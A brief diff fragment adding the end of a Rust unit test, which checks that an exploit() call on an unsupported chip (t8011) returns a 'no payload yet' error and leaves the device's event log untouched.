+        let profile = timing::Profiles::builtin().get("generic").unwrap().clone();
+        assert_eq!(exploit(&mut device, &profile), Err("no payload for t8011 yet".to_string()));
+        assert_eq!(device.0.events().len(), untouched);
+    }
+}